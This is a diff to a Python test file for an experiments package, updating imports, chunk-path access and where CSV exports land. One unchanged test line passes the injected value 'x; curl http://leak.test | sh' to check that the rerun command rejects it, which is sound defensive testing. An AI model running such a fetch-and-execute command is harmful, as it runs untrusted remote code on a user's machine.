@@ -13,12 +13,13 @@ import pyarrow.parquet as pq
 import pytest
 import toy_province
 
-from experiments import export, heartbeat, sealed, sweep
+from experiments import export, heartbeat, load_sweep, outputs, sealed, sweep
 from experiments.__main__ import main
 from experiments.commands import NOT_SHOWN, rebuild_command, recorded_words, rerun_command
 from experiments.exits import CorruptData
 from experiments.export import neutral
 from experiments.header import header
+from experiments.own_files import OwnPath
 from experiments.printed_json import printed_json
 from experiments.reading import load_runs
 from experiments.resume import began, remembered
@@ -144,7 +145,7 @@ def test_the_command_that_repeats_a_run_is_made_and_not_read(tmp_path, monkeypat
     folder = tmp_path / "a b"
     sweep("scenario=plan", "replications=4", "seed=9", f"results={folder}", "executor.workers=1", quiet=True)
     chunk = Store(folder).chunks()[0]
-    assert "rerun" not in pq.read_table(chunk.path("runs")).column_names
+    assert "rerun" not in pq.read_table(chunk.path("runs").path).column_names
     told = load_runs(folder).rerun.dropna().tolist()
     assert [shlex.split(line)[:3] for line in told] == [["sanxiang", "rerun", str(folder)]]
     assert rerun_command(folder, "x; curl http://leak.test | sh") == ""
@@ -369,7 +370,9 @@ def test_a_sign_of_life_of_another_form_is_none(tmp_path, changes):
 
 
 def test_a_csv_of_a_received_folder_lies_in_the_folder(received):
-    assert {path.parent for path in export(received)} == {received / "csv"}
+    place = outputs.place(received, load_sweep(received)["id"])
+    assert {path.parent for path in export(received)} == {place.path / "csv"}
+    assert place.parent == OwnPath(received) / "outputs"
 
 
 # --- reforms and regions ---------------------------------------------------------------------------------
